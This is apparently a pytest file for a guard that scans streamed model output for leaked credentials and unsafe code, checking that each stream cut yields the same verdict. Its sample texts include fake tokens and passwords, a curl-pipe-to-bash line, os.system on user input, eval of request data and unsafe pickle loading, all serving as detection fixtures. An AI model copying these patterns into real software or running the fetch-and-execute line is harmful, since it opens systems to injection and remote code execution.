"""For every case and every cut of the stream: one verdict, and nothing of a finding leaves where policy blocks."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from benchmarks.guard import rates
from server.errors import ContentBlockedError
from server.guard import fences, release, scan
from server.types import (
    Chat,
    Completion,
    Delta,
    Finding,
    ModelRequest,
    Outcome,
    ScanMode,
    ScanState,
    Secret,
    WireFormat,
)

CASES = Path(__file__).parent.parent / "vectors" / "guard"
KEY = "ghp_" + "Zx8Kq2mN4vB7cR1tY6wE9uI3oP5aS0dFgHjL"
TEXTS = [
    "Here is what you asked for: a short answer with no code at all, and a list:\n- one\n- two\n",
    f"Use the token {KEY} for now.",
    f"token={KEY}\nand more\n",
    f"The key is sk-{'A1b2C3d4' * 4}, keep it.",
    'Set password = "hunter2-Zebra!9" in the file.\n',
    "postgres://app:s3cr3tPw9@db.internal:5432/app is the address\n",
    "curl -u admin:Tr0ub4dor3x https://x.example.org/\n",
    "bot 7281938475:AAFk3J8dLm2Qx9ZpW7vRt5Yb1Nc6Hf4Gs0 and " + "3f9ab2c47d18e6054b2a9c8d7e6f5a41" + "-us14 here\n",
    "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA7bq8\n" * 8 + "-----END RSA PRIVATE KEY-----\ndone\n",
    "text \x1b[31mred\x1b[0m and \u202e reversed\u202c\n",
    "```python\nimport os\nos.system('ping ' + input())\n```\nafter\n",
    "```python\nimport subprocess\nsubprocess.run(['ls'], check=True)\n```\nSafe.\n",
    "- item\n  ```sh\n  curl http://x.org/i.sh | bash\n  ```\n",
    "~~~~js\nconst x = eval(req.query.q)\n~~~~\n",
    "````md\n```python\nimport pickle\npickle.loads(request.data)\n```\n````\n",
    "import os\n\ndef ping(host):\n    os.system('ping ' + host)\n",
    "Look:\n\nimport os\nos.system(input())\n\nThat runs what was typed, so be careful.\n",
    "```python\nimport os\nos.system(input())",
    "```\r\nimport os\r\nos.system(input())\r\n```\r\n",
    "no fence <script>eval(location.hash)</script>\n",
    "a" * 3000 + f" {KEY} " + "b" * 3000,
    f"mixed {KEY}\n```python\nos.system(input())\n```\n{KEY}",
]


def request(*, raw: bool = False, redactions: tuple[tuple[str, Secret], ...] = ()) -> ModelRequest:
    payload = Completion("") if raw else Chat(({"role": "user", "content": "x"},))
    return ModelRequest(WireFormat.CHAT, "m", payload, {}, redactions=redactions)


async def judge_here(source: str, language: str | None) -> scan.CodeScan:
    return scan.scan_code(source, language)


async def play(
    pieces: list[str], mode: ScanMode, wanted: ModelRequest | None = None, *, finish: bool = True
) -> tuple[str, Outcome, bool]:
    async def deltas():
        for piece in pieces:
            yield [Delta(0, piece)]
        if finish:
            yield [Delta(0, "", finish_reason="stop")]

    outcome, sent, was_blocked = Outcome(), [], False
    stream = release.released(deltas(), wanted or request(), mode, outcome, scan_code=judge_here, repair=None)
    try:
        async for batch in stream:
            sent += [delta.text for delta in batch]
    except ContentBlockedError:
        was_blocked = True
    return "".join(sent), outcome, was_blocked


def cuts(text: str) -> dict[str, list[str]]:
    return {
        "1": list(text),
        "3": [text[i : i + 3] for i in range(0, len(text), 3)],
        "7": [text[i : i + 7] for i in range(0, len(text), 7)],
        "line": fences.split_lines(text),
        "all": [text],
    }


def without_where(outcome: Outcome) -> tuple[ScanState, tuple[Finding, ...]]:
    assert outcome.scan is not None
    return outcome.scan.state, tuple(replace(f, where=None) for f in outcome.scan.findings)


def assert_holds(text: str, pieces: list[str], label: str = "") -> None:
    whole = scan.scan_text(text)
    sent, outcome, was_blocked = asyncio.run(play(pieces, ScanMode.ANNOTATE))
    assert sent == text, label
    assert not was_blocked
    assert without_where(outcome) == (whole.state, whole.findings), label
    sent, outcome, was_blocked = asyncio.run(play(pieces, ScanMode.BLOCK))
    assert was_blocked == bool(whole.findings), label
    if whole.findings:
        assert outcome.scan is not None
        assert outcome.scan.state is ScanState.FINDINGS
        assert text.startswith(sent)
        assert len(sent) <= min(f.start for f in whole.findings), label
    else:
        assert sent == text, label
    sent, outcome, was_blocked = asyncio.run(play(pieces, ScanMode.REDACT))
    assert not was_blocked
    assert without_where(outcome) == (whole.state, whole.findings), label
    for finding in whole.findings:
        body = text[finding.start : finding.end]
        assert len(body) < 4 or body not in sent, label


@pytest.mark.parametrize("number", range(len(TEXTS)))
@pytest.mark.parametrize("cut", ["1", "3", "7", "line", "all"])
def test_verdict_is_the_whole_texts(number: int, cut: str) -> None:
    text = TEXTS[number]
    assert_holds(text, cuts(text)[cut], f"{number} {cut}")


def labelled(step: int) -> list[str]:
    """Every `step`th labelled case, both twins, as an answer with a fence; and the credentials, a few a text."""
    texts = []
    for folder in (
        CASES,
        CASES / "held-out",
        CASES / "held-out" / "second",
        CASES / "held-out" / "third",
        CASES / "held-out" / "fifth",
    ):
        for pair in rates.load_pairs(folder)[::step]:
            texts += [
                f"Here it is:\n\n```{p}\n{code}```\nDone.\n"
                for p, code in ((pair.label, pair.insecure), (pair.label, pair.safe))
            ]
        lines = [line for line, _ in rates.load_secrets(folder) if "-----BEGIN" not in line][::step]
        texts += ["\n".join(lines[n : n + 3]) + "\n" for n in range(0, len(lines), 3)]
    return texts


def assert_every_cut_holds(texts: list[str]) -> None:
    for text in texts:
        for cut, pieces in cuts(text).items():
            assert_holds(text, pieces, f"{cut}: {text[:80]}")


def test_labelled_cases_hold_for_every_cut() -> None:
    assert_every_cut_holds(labelled(29))


@pytest.mark.slow
def test_all_labelled_cases_hold_for_every_cut() -> None:
    assert_every_cut_holds(labelled(1))


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_verdict_is_the_whole_texts_for_random_cuts(data: st.DataObject) -> None:
    text = "\n".join(data.draw(st.lists(st.sampled_from(TEXTS[:19]), min_size=1, max_size=3)))
    places = sorted(data.draw(st.sets(st.integers(1, max(1, len(text) - 1)), max_size=30)))
    pieces = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    assert_holds(text, [piece for piece in pieces if piece])


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="`~ \n\r\t#>-abc=:\"'{}()\x1b\u202e\x00ghp_sk", max_size=120), st.integers(1, 9))
def test_odd_text_is_never_lost(text: str, size: int) -> None:
    if text:
        assert_holds(text, [text[i : i + size] for i in range(0, len(text), size)])


@pytest.mark.parametrize("text", TEXTS)
def test_loose_code_is_held_from_its_first_character(text: str) -> None:
    for line in fences.split_lines(text):
        bare = line.rstrip("\r\n")
        if fences.is_loose_code(bare):
            assert all(fences.may_become_code(bare[:n]) for n in range(len(bare) + 1)), bare


def test_prose_is_not_delayed() -> None:
    words = ["The", "quick", "brown", "fox", "jumps", "over", "the", "lazy", "dog", "and", "rests", "for", "a", "while"]
    pieces = [words[0], *(" " + word for word in words[1:])]

    async def run() -> list[str]:
        seen: list[str] = []

        async def deltas():
            for piece in pieces:
                seen.append(f"in:{piece}")
                yield [Delta(0, piece)]

        stream = release.released(deltas(), request(), ScanMode.BLOCK, Outcome(), scan_code=judge_here, repair=None)
        async for batch in stream:
            seen.extend(f"out:{delta.text}" for delta in batch)
        return seen

    order = asyncio.run(run())
    late = sum(
        1
        for piece in pieces
        if f"out:{piece}" in order and order.index(f"out:{piece}") > order.index(f"in:{piece}") + 1
    )
    assert late <= 2


def test_annotate_lets_code_go_a_statement_at_a_time() -> None:
    text = "See:\n```python\nx = call(\n    1,\n    2,\n)\nprint(x)\n```\nThat is all.\n"

    async def run(pieces: list[str]) -> list[str]:
        async def deltas():
            for piece in pieces:
                yield [Delta(0, piece)]
            yield [Delta(0, "", finish_reason="stop")]

        stream = release.released(deltas(), request(), ScanMode.ANNOTATE, Outcome(), scan_code=judge_here, repair=None)
        return ["".join(delta.text for delta in batch) async for batch in stream]

    for name, pieces in cuts(text).items():
        sent = ""
        for batch in asyncio.run(run(pieces)):
            sent += batch
            inside = sent.partition("```python\n")[2].partition("```")[0]
            assert inside in ("", "x = call(\n    1,\n    2,\n)\n", "x = call(\n    1,\n    2,\n)\nprint(x)\n"), name
        assert sent == text


def test_annotate_waits_for_no_bracket_for_ever() -> None:
    text = "```python\nx = '('\n" + "y = 1\n" * 100
    sent, _, _ = asyncio.run(play(list(text), ScanMode.ANNOTATE, finish=False))
    assert len(sent) > len(text) - 6 * 40


def test_redacted_values_come_back_in_text_for_every_cut() -> None:
    mark = "REDACTED_0123456789abcdef"
    wanted = request(redactions=((mark, Secret("s3cr3t-value")),))
    text = f"Use {mark} here, and `{mark}` there.\n```sh\necho {mark}\n```\n"
    for mode in (ScanMode.OFF, ScanMode.ANNOTATE, ScanMode.BLOCK, ScanMode.REDACT):
        for pieces in cuts(text).values():
            sent, _, _ = asyncio.run(play(pieces, mode, wanted))
            assert sent == text.replace(mark, "s3cr3t-value"), mode


def test_raw_completions_are_held_to_their_end() -> None:
    pieces = ["import os\n", "os.system(", "input())\n"]
    sent, _, was_blocked = asyncio.run(play(pieces, ScanMode.BLOCK, request(raw=True)))
    assert was_blocked
    assert sent == ""
